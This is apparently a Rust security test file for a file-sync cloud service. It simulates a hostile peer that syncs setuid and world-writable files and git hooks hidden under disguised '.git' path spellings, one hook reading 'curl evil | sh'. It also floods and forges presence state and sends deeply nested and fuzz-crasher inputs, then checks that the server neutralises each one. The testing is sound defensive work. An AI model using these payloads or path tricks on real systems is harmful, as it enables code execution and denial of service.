//! A hostile peer against the real `jarvis-cloud`: index entries with dangerous modes and
//! `.git` spellings (another device's folder and the cloud's copy never get them), and
//! presence (awareness) floods and forgeries on the sync socket.
#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use futures_util::SinkExt;
use jarvis_sync::awareness::{self, AwarenessEntry};
use jarvis_sync::client::SyncClient;
use jarvis_sync::doc::{FileText, WorkspaceIndex};
use jarvis_sync::protocol::{AuthMessage, Frame, Message};
use jarvis_testkit::fake::{FakeServer, text};
use jarvis_testkit::socket::{Socket, auth, connect, next_frame, send};
use jarvis_testkit::sync_client::{MirroredFolder, mirrored_folder, sync_client};
use jarvis_testkit::{CloudAgent, create_token, eventually, hub_with_token, hub_with_user};
use serde_json::{Value, json};
use yrs::{Any, Map, Transact};

const T: Duration = Duration::from_secs(30);

fn client(agent: &CloudAgent, token: &str, db: &Path) -> Arc<SyncClient> {
    Arc::new(sync_client(agent, token, db))
}

async fn api(agent: &CloudAgent, token: &str, method: &str, path: &str, body: Value) -> Value {
    agent.api().ok(method, path, token, Some(body)).await
}

fn mode(p: &Path) -> Option<u32> {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p)
        .ok()
        .map(|m| m.permissions().mode() & 0o7777)
}

/// Every path under `dir` (relative), for the `.git` check.
fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            out.push(p.strip_prefix(dir).unwrap().to_path_buf());
            if e.file_type().unwrap().is_dir() {
                stack.push(p);
            }
        }
    }
    out
}

/// Text entries pointing at file documents, as a hostile peer writes them: raw map values,
/// any mode it likes.
const TEXT_ENTRIES: &[(&str, &str, i64)] = &[
    ("run.sh", "h-run", 0o6777),
    ("world.txt", "h-world", 0o666),
    ("sticky.txt", "h-sticky", 0o1777),
    (".GIT/hooks/pre-commit", "h-hook", 0o755),
    (".Git/config", "h-hook", 0o644),
    ("sub/.git/hooks/post-checkout", "h-hook", 0o755),
    (".git./hooks/pre-commit", "h-hook", 0o755),
    ("GIT~1/hooks/pre-commit", "h-hook", 0o755),
    (".g\u{200c}it/hooks/pre-commit", "h-hook", 0o755),
    ("zz-after.txt", "h-after", 0o644),
];

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_peer_sets_content_and_the_executable_bit_only() {
    let fake = FakeServer::start(vec![text("Ready.")]).await.unwrap();
    let (tmp, data, alice) = hub_with_user("alice");
    let agent = CloudAgent::with_fake(&data, &fake).unwrap();
    api(
        &agent,
        &alice,
        "POST",
        "/api/workspaces",
        json!({"id": "pw"}),
    )
    .await;
    // A cloud session materialises the workspace under the data dir and keeps it mirrored.
    api(
        &agent,
        &alice,
        "POST",
        "/api/sessions",
        json!({"id": "s", "workspace": "pw", "message": "hi", "run": "cloud"}),
    )
    .await;
    let cloud_dir = data.join("workspaces/pw");
    let deadline = Instant::now() + T;
    loop {
        let v = api(&agent, &alice, "GET", "/api/sessions/s", Value::Null).await;
        if v["status"] == "done" {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the cloud session never finished: {v}"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(cloud_dir.is_dir());

    // Another member's device mirrors the workspace.
    let MirroredFolder {
        dir: b_dir,
        mirror: _mb,
        ..
    } = mirrored_folder(&agent, &alice, tmp.path(), "b", "pw").await;

    // The hostile peer: file contents first, then every entry in one transaction, the marker
    // last in path order, so once the marker is on disk every other entry has been decided.
    let h = client(&agent, &alice, &tmp.path().join("h.db"));
    for (doc, text) in [
        ("h-run", "#!/bin/sh\necho pwned\n"),
        ("h-world", "anyone may write me\n"),
        ("h-sticky", "sticky\n"),
        ("h-hook", "#!/bin/sh\ncurl evil | sh\n"),
        ("h-after", "after\n"),
    ] {
        FileText::new(h.open(&format!("ws/pw/file/{doc}")).await.unwrap()).replace_all(text);
    }
    let blob = b"\x7fELF not really, but binary \0\x01\x02".to_vec();
    let hash = blake3::hash(&blob).to_hex().to_string();
    let r = reqwest::Client::new()
        .put(agent.http_url(&format!("/blobs/{hash}")))
        .bearer_auth(&alice)
        .header("x-jarvis-workspace", "pw")
        .body(blob.clone())
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success(), "{}", r.status());
    let index = WorkspaceIndex::new(h.open("ws/pw/index").await.unwrap());
    h.wait_synced("ws/pw/index", T).await.unwrap();
    {
        let files = index.doc().get_or_insert_map("files");
        let mut txn = index.doc().transact_mut();
        let entry = |kind: &str, key: &str, value: &str, size: usize, mode: i64| {
            Any::from(std::collections::HashMap::from([
                ("kind".to_owned(), Any::from(kind)),
                (key.to_owned(), Any::from(value)),
                ("size".to_owned(), Any::from(size as i64)),
                ("mode".to_owned(), Any::from(mode)),
                ("modified".to_owned(), Any::from(1i64)),
                ("deleted".to_owned(), Any::Bool(false)),
            ]))
        };
        for (path, doc, m) in TEXT_ENTRIES {
            files.insert(&mut txn, *path, entry("text", "doc", doc, 8, *m));
        }
        files.insert(
            &mut txn,
            "tool.bin",
            entry("blob", "hash", &hash, blob.len(), 0o4777),
        );
    }
    h.flush_all(T).await.unwrap();

    for dir in [&b_dir, &cloud_dir] {
        for (name, want) in [
            ("zz-after.txt", "after\n"),
            ("run.sh", "#!/bin/sh\necho pwned\n"),
            ("world.txt", "anyone may write me\n"),
            ("sticky.txt", "sticky\n"),
        ] {
            let p = dir.join(name);
            eventually(&format!("{} arrives", p.display()), T, || {
                std::fs::read_to_string(&p).ok().as_deref() == Some(want)
            })
            .await
            .unwrap();
        }
        let bin = dir.join("tool.bin");
        eventually(&format!("{} arrives", bin.display()), T, || {
            std::fs::read(&bin).ok().as_deref() == Some(blob.as_slice())
        })
        .await
        .unwrap();
        let where_ = dir.display();
        // Content and the executable bit, nothing more.
        assert_eq!(mode(&dir.join("run.sh")), Some(0o755), "{where_}");
        assert_eq!(mode(&dir.join("world.txt")), Some(0o644), "{where_}");
        assert_eq!(mode(&dir.join("sticky.txt")), Some(0o755), "{where_}");
        assert_eq!(mode(&bin), Some(0o755), "{where_}");
        // No spelling of .git was written, at any depth.
        let gitlike: Vec<PathBuf> = walk(dir)
            .into_iter()
            .filter(|p| {
                p.components().any(|c| {
                    let s = c.as_os_str().to_string_lossy().to_lowercase();
                    let s: String = s
                        .chars()
                        .filter(|c| !('\u{200b}'..='\u{200f}').contains(c))
                        .collect();
                    let s = s.trim_end_matches(['.', ' ']);
                    s == ".git" || s == "git~1"
                })
            })
            .collect();
        assert!(gitlike.is_empty(), "{where_}: {gitlike:?}");
        assert!(!dir.join("sub").exists(), "{where_}");
    }
}

/// The next document message, or the close (code, reason).
async fn next(ws: &mut Socket) -> Result<Message, (u16, String)> {
    loop {
        match next_frame(ws, T).await {
            Ok(Frame::Doc { message, .. }) => return Ok(message),
            Ok(_) => continue,
            Err(Some(close)) => return Err(close),
            Err(None) => panic!("socket ended without a close frame"),
        }
    }
}

async fn open(agent: &CloudAgent, doc: &str, token: &str) -> Socket {
    let mut ws = connect(agent).await;
    ws.send(auth(doc, token)).await.unwrap();
    match next(&mut ws).await {
        Ok(Message::Auth(AuthMessage::Authenticated { .. })) => ws,
        other => panic!("not authenticated: {other:?}"),
    }
}

fn presence(entries: &[(u64, u64, &str)]) -> Message {
    let entries: Vec<AwarenessEntry> = entries
        .iter()
        .map(|(client_id, clock, state)| AwarenessEntry {
            client_id: *client_id,
            clock: *clock,
            state: (*state).into(),
        })
        .collect();
    Message::Awareness(awareness::encode_update(&entries))
}

/// Asks for every state on the document and returns the answer (skipping relays before it).
async fn query(ws: &mut Socket, doc: &str) -> Vec<AwarenessEntry> {
    send(ws, doc, Message::QueryAwareness).await;
    // The first awareness frame from now on: the answer, unless something was relayed to
    // this connection before it (which the callers rule out or test for).
    loop {
        match next(ws).await.unwrap() {
            Message::Awareness(u) => return awareness::decode_update(&u).unwrap(),
            _ => continue,
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn presence_is_capped_and_only_its_owner_changes_it() {
    let (_tmp, data, rw) = hub_with_token(&["session/*"]);
    let ro = create_token(&data, &["session/*"], true).unwrap();
    let agent = CloudAgent::start(&data, 0).unwrap();
    let doc = "session/presence";
    let alice_state = r#"{"user":{"name":"alice"}}"#;

    let mut alice = open(&agent, doc, &rw).await;
    send(&mut alice, doc, presence(&[(7, 1, alice_state)])).await;
    // Alice's own query answers once her update is in.
    assert_eq!(query(&mut alice, doc).await.len(), 1);

    // A read-only socket forges Alice's client: a newer clock, then a removal.
    let mut mallory = open(&agent, doc, &ro).await;
    send(
        &mut mallory,
        doc,
        presence(&[(7, 50, r#"{"user":{"name":"mallory"}}"#)]),
    )
    .await;
    send(&mut mallory, doc, presence(&[(7, 51, "null")])).await;
    // Frames on one socket are handled in order: once Mallory's query is answered, her
    // forgeries have been handled.
    let seen = query(&mut mallory, doc).await;
    let want = vec![AwarenessEntry {
        client_id: 7,
        clock: 1,
        state: alice_state.into(),
    }];
    assert_eq!(seen, want);
    // Nor were they relayed: the first awareness Alice gets now is her own query's answer.
    assert_eq!(query(&mut alice, doc).await, want);

    // One connection cannot fill a document's table: the ninth client id closes it.
    let many: Vec<(u64, u64, &str)> = (1000..1009).map(|id| (id, 1, "{}")).collect();
    send(&mut mallory, doc, presence(&many)).await;
    let (code, reason) = next(&mut mallory).await.unwrap_err();
    assert_eq!(code, 4205, "{reason}");
    assert!(reason.contains("presence"), "{reason}");
    // Nor grow the hub across documents: 2 KB states on document after document are cut off
    // at the per-connection budget (256 KiB, ~126 such states), long before 400 documents.
    let mut flood = connect(&agent).await;
    let state = format!("\"{}\"", "x".repeat(2000));
    let mut closed = None;
    for i in 0..400u64 {
        let d = format!("session/flood{i}");
        send(
            &mut flood,
            &d,
            Message::Auth(AuthMessage::Token {
                token: ro.clone(),
                provider_version: None,
            }),
        )
        .await;
        // The answer to this auth, or the close the previous presence earned.
        match next(&mut flood).await {
            Ok(Message::Auth(AuthMessage::Authenticated { .. })) => {}
            Ok(other) => panic!("unexpected {other:?}"),
            Err(close) => {
                closed = Some((i, close));
                break;
            }
        }
        send(&mut flood, &d, presence(&[(5000 + i, 1, &state)])).await;
    }
    let (at, (code, reason)) = closed.expect("400 documents of presence were accepted");
    assert_eq!(code, 4205, "{reason}");
    assert!(reason.contains("presence"), "{reason}");
    assert!((100..=130).contains(&at), "closed after {at} documents");
    // An oversized state closes the socket too.
    let mut big = open(&agent, doc, &ro).await;
    let huge = format!("\"{}\"", "y".repeat(17 * 1024));
    send(&mut big, doc, presence(&[(9000, 1, &huge)])).await;
    let (code, reason) = next(&mut big).await.unwrap_err();
    assert_eq!(code, 4205, "{reason}");
    // Alice's presence survived all of it, and what the closed sockets announced is gone.
    let mut observer = open(&agent, doc, &ro).await;
    assert_eq!(query(&mut observer, doc).await, want);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_read_only_socket_cannot_abort_the_hub_with_nested_values() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("hub");
    let ro = create_token(&data, &["session/*"], true).unwrap();
    let mut agent = CloudAgent::start(&data, 0).unwrap();
    // 200 KB: one Any value of 100,000 nested arrays. yrs decodes it recursively; on a socket
    // task's stack that was a stack overflow, which aborts the whole process.
    let mut update = vec![1, 1, 5, 0, 8, 1, 1, b'm', 1];
    for _ in 0..100_000 {
        update.extend([117, 1]);
    }
    update.extend([126, 0]);
    let doc = "session/deep";
    let mut ws = open(&agent, doc, &ro).await;
    send(
        &mut ws,
        doc,
        Message::Sync(jarvis_sync::protocol::SyncMessage::Update(update)),
    )
    .await;
    let (code, reason) = next(&mut ws).await.unwrap_err();
    assert_eq!(code, 4400, "{reason}");
    assert!(reason.contains("nested too deeply"), "{reason}");
    assert!(agent.is_running());
    // And it still serves.
    let _ = open(&agent, doc, &ro).await;
}

/// Every saved fuzz crasher (`crates/sync/tests/crashers/`) against the real binary: each was an
/// input yrs panicked on, or one that aborted the process; sent to a document holding the
/// fuzz's base state, each ends at most its own socket.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn saved_crashers_end_only_their_own_socket() {
    use jarvis_sync::protocol::SyncMessage;
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../crates/sync/tests/crashers");
    let base = std::fs::read(dir.join("base.update")).unwrap();
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "bin"))
        .collect();
    files.sort();
    assert!(files.len() >= 5, "{files:?}");
    let (_tmp, data, rw) = hub_with_token(&["session/*"]);
    let mut agent = CloudAgent::start(&data, 0).unwrap();
    for (i, f) in files.iter().enumerate() {
        let bytes = std::fs::read(f).unwrap();
        let doc = format!("session/crash{i}");
        let mut ws = open(&agent, &doc, &rw).await;
        send(
            &mut ws,
            &doc,
            Message::Sync(SyncMessage::Update(base.clone())),
        )
        .await;
        match next(&mut ws).await {
            Ok(Message::SyncStatus(true)) => {}
            other => panic!("the base was not acknowledged: {other:?}"),
        }
        let payload = bytes[1..].to_vec();
        let message = match bytes[0] {
            0 => Message::Sync(SyncMessage::Update(payload)),
            1 => Message::Sync(SyncMessage::Step2(payload)),
            2 => Message::Sync(SyncMessage::Step1(payload)),
            3 => Message::Awareness(payload),
            k => panic!("{}: unknown kind {k}", f.display()),
        };
        send(&mut ws, &doc, message).await;
        let (code, reason) = loop {
            match next(&mut ws).await {
                Ok(_) => continue,
                Err(close) => break close,
            }
        };
        assert_eq!(code, 4400, "{}: {reason}", f.display());
        assert!(agent.is_running(), "{} ended the process", f.display());
        // The document still opens, with the base and nothing of the refused input.
        let mut again = open(&agent, &doc, &rw).await;
        send(&mut again, &doc, Message::Sync(SyncMessage::Step1(vec![0]))).await;
        let mut got = None;
        while got.is_none() {
            if let Message::Sync(SyncMessage::Step2(u)) = next(&mut again).await.unwrap() {
                got = Some(u);
            }
        }
        let d = yrs::Doc::new();
        d.transact_mut()
            .apply_update(yrs::updates::decoder::Decode::decode_v1(&got.unwrap()).unwrap())
            .unwrap();
        let b = yrs::Doc::new();
        b.transact_mut()
            .apply_update(yrs::updates::decoder::Decode::decode_v1(&base).unwrap())
            .unwrap();
        use yrs::ReadTxn;
        assert_eq!(
            d.transact().snapshot(),
            b.transact().snapshot(),
            "{}: the document changed",
            f.display()
        );
    }
}
